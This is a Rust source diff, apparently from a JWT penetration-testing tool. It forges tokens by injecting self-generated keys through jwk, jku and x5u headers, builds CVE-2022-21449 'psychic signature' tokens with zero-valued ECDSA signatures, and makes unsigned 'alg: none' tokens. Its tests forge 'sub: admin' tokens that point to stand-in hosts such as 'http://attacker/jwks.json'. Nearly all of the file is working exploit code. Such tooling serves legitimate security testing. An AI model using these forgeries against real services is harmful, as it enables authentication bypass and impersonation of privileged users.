@@ -0,0 +1,426 @@
+use crate::error::{Error, Result};
+use crate::utils::jwt::encode_segment;
+use base64::Engine;
+use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+use jsonwebtoken::crypto::sign;
+use jsonwebtoken::{Algorithm, EncodingKey};
+use ring::rand::SystemRandom;
+use ring::signature::{
+    ECDSA_P256_SHA256_FIXED_SIGNING, ECDSA_P384_SHA384_FIXED_SIGNING, EcdsaKeyPair, KeyPair,
+};
+use rsa::RsaPrivateKey;
+use rsa::pkcs1::EncodeRsaPrivateKey;
+use rsa::pkcs8::EncodePrivateKey;
+use rsa::traits::PublicKeyParts;
+use serde_json::{Value, json};
+use sha2::{Digest, Sha256};
+
+/// 伪造令牌时公钥的投递方式
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum KeyDelivery {
+    /// 把公钥直接嵌入 Header 的 `jwk` 字段
+    EmbeddedJwk,
+    /// `jku` 指向一个可控的 JWKS 地址
+    Jku(String),
+    /// `x5u` 指向一个可控的地址，上面部署 PEM 格式的 X.509 证书（RFC 7515 §4.1.5）
+    X5u(String),
+}
+
+/// ECDSA 签名在令牌中的编码形式
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum SignatureEncoding {
+    /// JWS 规定的 R || S 定长拼接
+    Raw,
+    /// ASN.1 DER 编码的 SEQUENCE { r, s }
+    Der,
+}
+
+/// 本地生成的签名密钥对，用于 jwk / jku / x5u 头部伪造
+pub struct SpoofKey {
+    algorithm: Algorithm,
+    kid: String,
+    encoding_key: EncodingKey,
+    jwk: Value,
+    /// 公钥对应的自签名证书，PEM 格式
+    certificate: String,
+}
+
+impl SpoofKey {
+    /// 为指定算法生成一对新的密钥，支持 RS*/PS*/ES256/ES384
+    pub fn generate(algorithm: Algorithm) -> Result<Self> {
+        let (encoding_key, pkcs8, mut jwk) = match algorithm {
+            Algorithm::RS256
+            | Algorithm::RS384
+            | Algorithm::RS512
+            | Algorithm::PS256
+            | Algorithm::PS384
+            | Algorithm::PS512 => {
+                let private_key = RsaPrivateKey::new(&mut rsa::rand_core::OsRng, 2048)
+                    .map_err(|e| Error::Crypto(e.to_string()))?;
+                let der = private_key
+                    .to_pkcs1_der()
+                    .map_err(|e| Error::Crypto(e.to_string()))?;
+                let pkcs8 = private_key
+                    .to_pkcs8_der()
+                    .map_err(|e| Error::Crypto(e.to_string()))?;
+                let jwk = json!({
+                    "kty": "RSA",
+                    "n": URL_SAFE_NO_PAD.encode(private_key.n().to_bytes_be()),
+                    "e": URL_SAFE_NO_PAD.encode(private_key.e().to_bytes_be()),
+                });
+                (
+                    EncodingKey::from_rsa_der(der.as_bytes()),
+                    pkcs8.as_bytes().to_vec(),
+                    jwk,
+                )
+            }
+            Algorithm::ES256 | Algorithm::ES384 => {
+                let (signing_alg, crv) = if algorithm == Algorithm::ES256 {
+                    (&ECDSA_P256_SHA256_FIXED_SIGNING, "P-256")
+                } else {
+                    (&ECDSA_P384_SHA384_FIXED_SIGNING, "P-384")
+                };
+                let rng = SystemRandom::new();
+                let pkcs8 = EcdsaKeyPair::generate_pkcs8(signing_alg, &rng)
+                    .map_err(|_| Error::Crypto("无法生成 EC 密钥".to_string()))?;
+                let key_pair = EcdsaKeyPair::from_pkcs8(signing_alg, pkcs8.as_ref(), &rng)
+                    .map_err(|e| Error::Crypto(e.to_string()))?;
+                // 未压缩点格式: 0x04 || X || Y
+                let point = &key_pair.public_key().as_ref()[1..];
+                let (x, y) = point.split_at(point.len() / 2);
+                let jwk = json!({
+                    "kty": "EC",
+                    "crv": crv,
+                    "x": URL_SAFE_NO_PAD.encode(x),
+                    "y": URL_SAFE_NO_PAD.encode(y),
+                });
+                (
+                    EncodingKey::from_ec_der(pkcs8.as_ref()),
+                    pkcs8.as_ref().to_vec(),
+                    jwk,
+                )
+            }
+            _ => {
+                return Err(Error::UnsupportedAlgorithm(
+                    algorithm_name(algorithm).to_string(),
+                ));
+            }
+        };
+
+        let kid = thumbprint(&jwk);
+        jwk["kid"] = json!(kid);
+        jwk["use"] = json!("sig");
+        jwk["alg"] = json!(algorithm_name(algorithm));
+        let certificate = self_signed_certificate(&pkcs8, &kid)?;
+
+        Ok(Self {
+            algorithm,
+            kid,
+            encoding_key,
+            jwk,
+            certificate,
+        })
+    }
+
+    pub fn kid(&self) -> &str {
+        &self.kid
+    }
+
+    /// 公钥的 JWK 表示
+    pub fn jwk(&self) -> &Value {
+        &self.jwk
+    }
+
+    /// 需要部署到 jku 地址上的 JWKS 文档
+    pub fn jwks(&self) -> Value {
+        json!({ "keys": [self.jwk] })
+    }
+
+    /// 需要部署到 x5u 地址上的自签名证书，PEM 格式
+    pub fn certificate_pem(&self) -> &str {
+        &self.certificate
+    }
+
+    /// 按投递方式需要部署到目标地址的文档，内嵌 jwk 时为 `None`
+    pub fn hosted_document(&self, delivery: &KeyDelivery) -> Option<String> {
+        match delivery {
+            KeyDelivery::EmbeddedJwk => None,
+            KeyDelivery::Jku(_) => Some(format!("{:#}", self.jwks())),
+            KeyDelivery::X5u(_) => Some(self.certificate.clone()),
+        }
+    }
+
+    /// 在用户编辑的 Header 基础上写入 alg/kid 和公钥投递字段，并用生成的私钥签名
+    pub fn sign(&self, header: &Value, payload: &Value, delivery: &KeyDelivery) -> Result<String> {
+        let mut header = header.as_object().cloned().unwrap_or_default();
+        for field in ["jwk", "jku", "x5u", "x5c"] {
+            header.remove(field);
+        }
+        header.insert("alg".to_string(), json!(algorithm_name(self.algorithm)));
+        header.insert("kid".to_string(), json!(self.kid));
+        match delivery {
+            KeyDelivery::EmbeddedJwk => {
+                header.insert("jwk".to_string(), self.jwk.clone());
+            }
+            KeyDelivery::Jku(url) => {
+                header.insert("jku".to_string(), json!(url));
+            }
+            KeyDelivery::X5u(url) => {
+                header.insert("x5u".to_string(), json!(url));
+            }
+        }
+
+        let signing_input = format!(
+            "{}.{}",
+            encode_segment(&Value::Object(header)),
+            encode_segment(payload)
+        );
+        let signature = sign(signing_input.as_bytes(), &self.encoding_key, self.algorithm)
+            .map_err(|e| Error::Crypto(e.to_string()))?;
+        Ok(format!("{}.{}", signing_input, signature))
+    }
+}
+
+/// 只含必需字段的 JWK 的 RFC 7638 指纹，用作 kid
+///
+/// serde_json 的 Map 按键名排序，正好是规范要求的顺序
+fn thumbprint(jwk: &Value) -> String {
+    URL_SAFE_NO_PAD.encode(Sha256::digest(jwk.to_string().as_bytes()))
+}
+
+/// 用 PKCS#8 私钥生成自签名证书，主题 CN 为 kid
+fn self_signed_certificate(pkcs8: &[u8], kid: &str) -> Result<String> {
+    let crypto = |e: rcgen::Error| Error::Crypto(e.to_string());
+    let key_pair = rcgen::KeyPair::try_from(pkcs8).map_err(crypto)?;
+    let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).map_err(crypto)?;
+    params.distinguished_name = rcgen::DistinguishedName::new();
+    params
+        .distinguished_name
+        .push(rcgen::DnType::CommonName, kid);
+    Ok(params.self_signed(&key_pair).map_err(crypto)?.pem())
+}
+
+/// 算法在 JWT Header 中的名字
+pub fn algorithm_name(algorithm: Algorithm) -> &'static str {
+    match algorithm {
+        Algorithm::HS256 => "HS256",
+        Algorithm::HS384 => "HS384",
+        Algorithm::HS512 => "HS512",
+        Algorithm::ES256 => "ES256",
+        Algorithm::ES384 => "ES384",
+        Algorithm::RS256 => "RS256",
+        Algorithm::RS384 => "RS384",
+        Algorithm::RS512 => "RS512",
+        Algorithm::PS256 => "PS256",
+        Algorithm::PS384 => "PS384",
+        Algorithm::PS512 => "PS512",
+        Algorithm::EdDSA => "EdDSA",
+    }
+}
+
+/// 构造 CVE-2022-21449 ("psychic signature") 令牌：签名的 r 和 s 都为 0，
+/// 存在漏洞的 Java 15-18 会把它当成合法的 ECDSA 签名
+pub fn forge_psychic_signature(
+    header: &Value,
+    payload: &Value,
+    alg: &str,
+    encoding: SignatureEncoding,
+) -> Result<String> {
+    let scalar_len = match alg {
+        "ES256" => 32,
+        "ES384" => 48,
+        "ES512" => 66,
+        _ => return Err(Error::UnsupportedAlgorithm(alg.to_string())),
+    };
+    let signature = match encoding {
+        SignatureEncoding::Raw => vec![0u8; scalar_len * 2],
+        SignatureEncoding::Der => vec![0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00],
+    };
+
+    let mut header = header.as_object().cloned().unwrap_or_default();
+    header.insert("alg".to_string(), json!(alg));
+    Ok(format!(
+        "{}.{}.{}",
+        encode_segment(&Value::Object(header)),
+        encode_segment(payload),
+        URL_SAFE_NO_PAD.encode(signature)
+    ))
+}
+
+/// 构造 `alg` 为 `none` 一类写法、签名为空的令牌，用于测试服务端是否接受未签名的令牌
+pub fn forge_alg_none(header: &Value, payload: &Value, alg: &str) -> String {
+    let mut header = header.as_object().cloned().unwrap_or_default();
+    header.insert("alg".to_string(), json!(alg));
+    format!(
+        "{}.{}.",
+        encode_segment(&Value::Object(header)),
+        encode_segment(payload)
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::utils::jwt::decode_json_segment;
+    use base64::engine::general_purpose::STANDARD;
+    use jsonwebtoken::jwk::Jwk;
+    use jsonwebtoken::{DecodingKey, Validation, decode, decode_header};
+    use std::collections::HashSet;
+
+    fn verify(token: &str, jwk: &Value) -> Value {
+        let jwk: Jwk = serde_json::from_value(jwk.clone()).unwrap();
+        let header = decode_header(token).unwrap();
+        let mut validation = Validation::new(header.alg);
+        validation.required_spec_claims = HashSet::new();
+        validation.validate_exp = false;
+        decode::<Value>(token, &DecodingKey::from_jwk(&jwk).unwrap(), &validation)
+            .unwrap()
+            .claims
+    }
+
+    #[test]
+    fn thumbprint_matches_rfc7638_example() {
+        // RFC 7638 §3.1
+        let jwk = json!({
+            "kty": "RSA",
+            "e": "AQAB",
+            "n": "0vx7agoebGcQSuuPiLJXZptN9nndrQmbXEps2aiAFbWhM78LhWx4cbbfAAtVT86zwu1RK7aPFFxuhDR1L6tSoc_BJECPebWKRXjBZCiFV4n3oknjhMstn64tZ_2W-5JsGY4Hc5n9yBXArwl93lqt7_RN5w6Cf0h4QyQ5v-65YGjQR0_FDW2QvzqY368QQMicAtaSqzs8KJZgnYb9c7d0zgdAZHzu6qMQvRL5hajrn1n91CbOpbISD08qNLyrdkt-bFTWhAI4vMQFh6WeZu0fM4lFd2NcRwr3XPksINHaQ-G_xBniIqbw0Ls1jF44-csFCur-kEgU8awapJzKnqDKgw",
+        });
+        assert_eq!(
+            thumbprint(&jwk),
+            "NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs"
+        );
+    }
+
+    fn check_signature(key: &SpoofKey) {
+        let payload = json!({ "sub": "admin" });
+        let token = key
+            .sign(
+                &json!({ "typ": "JWT" }),
+                &payload,
+                &KeyDelivery::EmbeddedJwk,
+            )
+            .unwrap();
+        let header = decode_header(&token).unwrap();
+        assert_eq!(header.alg, key.algorithm);
+        assert_eq!(header.kid.as_deref(), Some(key.kid()));
+        assert_eq!(verify(&token, key.jwk()), payload, "{:?}", key.algorithm);
+    }
+
+    #[test]
+    fn signatures_verify_with_the_exported_jwk() {
+        // 生成 RSA 密钥很慢，RS*/PS* 共用一把
+        let rsa = SpoofKey::generate(Algorithm::RS256).unwrap();
+        for algorithm in [
+            Algorithm::RS256,
+            Algorithm::RS384,
+            Algorithm::RS512,
+            Algorithm::PS256,
+            Algorithm::PS384,
+            Algorithm::PS512,
+        ] {
+            let mut jwk = rsa.jwk.clone();
+            jwk["alg"] = json!(algorithm_name(algorithm));
+            check_signature(&SpoofKey {
+                algorithm,
+                kid: rsa.kid.clone(),
+                encoding_key: rsa.encoding_key.clone(),
+                jwk,
+                certificate: rsa.certificate.clone(),
+            });
+        }
+        for algorithm in [Algorithm::ES256, Algorithm::ES384] {
+            check_signature(&SpoofKey::generate(algorithm).unwrap());
+        }
+    }
+
+    #[test]
+    fn unsupported_algorithms_are_rejected() {
+        for algorithm in [Algorithm::HS256, Algorithm::EdDSA] {
+            assert!(matches!(
+                SpoofKey::generate(algorithm),
+                Err(Error::UnsupportedAlgorithm(_))
+            ));
+        }
+    }
+
+    #[test]
+    fn hosted_documents() {
+        let key = SpoofKey::generate(Algorithm::ES256).unwrap();
+        assert_eq!(key.hosted_document(&KeyDelivery::EmbeddedJwk), None);
+
+        let jwks: Value = serde_json::from_str(
+            &key.hosted_document(&KeyDelivery::Jku("http://attacker/jwks.json".to_string()))
+                .unwrap(),
+        )
+        .unwrap();
+        assert_eq!(jwks["keys"][0]["kid"], key.kid());
+        let token = key
+            .sign(
+                &json!({}),
+                &json!({ "sub": "admin" }),
+                &KeyDelivery::Jku("http://attacker/jwks.json".to_string()),
+            )
+            .unwrap();
+        assert_eq!(verify(&token, &jwks["keys"][0])["sub"], "admin");
+
+        let pem = key
+            .hosted_document(&KeyDelivery::X5u("http://attacker/cert.pem".to_string()))
+            .unwrap();
+        let body: String = pem
+            .trim()
+            .strip_prefix("-----BEGIN CERTIFICATE-----")
+            .and_then(|pem| pem.strip_suffix("-----END CERTIFICATE-----"))
+            .unwrap()
+            .split_whitespace()
+            .collect();
+        let der = STANDARD.decode(body).unwrap();
+        // 外层是一个长度覆盖整个证书的 SEQUENCE
+        assert_eq!(der[0], 0x30);
+        assert_eq!(der[1], 0x82);
+        assert_eq!(
+            usize::from(der[2]) << 8 | usize::from(der[3]),
+            der.len() - 4
+        );
+        // 证书里的公钥就是 JWK 中的点
+        let x = URL_SAFE_NO_PAD
+            .decode(key.jwk()["x"].as_str().unwrap())
+            .unwrap();
+        let y = URL_SAFE_NO_PAD
+            .decode(key.jwk()["y"].as_str().unwrap())
+            .unwrap();
+        let point = [&[0x04][..], &x, &y].concat();
+        assert!(der.windows(point.len()).any(|window| window == point));
+    }
+
+    fn signature_bytes(alg: &str, encoding: SignatureEncoding) -> Vec<u8> {
+        let token = forge_psychic_signature(&json!({}), &json!({}), alg, encoding).unwrap();
+        let (_, signature) = token.rsplit_once('.').unwrap();
+        URL_SAFE_NO_PAD.decode(signature).unwrap()
+    }
+
+    #[test]
+    fn psychic_signature_layouts() {
+        for (alg, len) in [("ES256", 64), ("ES384", 96), ("ES512", 132)] {
+            assert_eq!(signature_bytes(alg, SignatureEncoding::Raw), vec![0; len]);
+            assert_eq!(
+                signature_bytes(alg, SignatureEncoding::Der),
+                [0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00]
+            );
+        }
+        let token =
+            forge_psychic_signature(&json!({}), &json!({}), "ES384", SignatureEncoding::Raw)
+                .unwrap();
+        let (header, _) = token.split_once('.').unwrap();
+        assert_eq!(
+            decode_json_segment("header", header).unwrap()["alg"],
+            "ES384"
+        );
+        for alg in ["RS256", "es256", "HS256"] {
+            assert!(matches!(
+                forge_psychic_signature(&json!({}), &json!({}), alg, SignatureEncoding::Raw),
+                Err(Error::UnsupportedAlgorithm(_))
+            ));
+        }
+    }
+}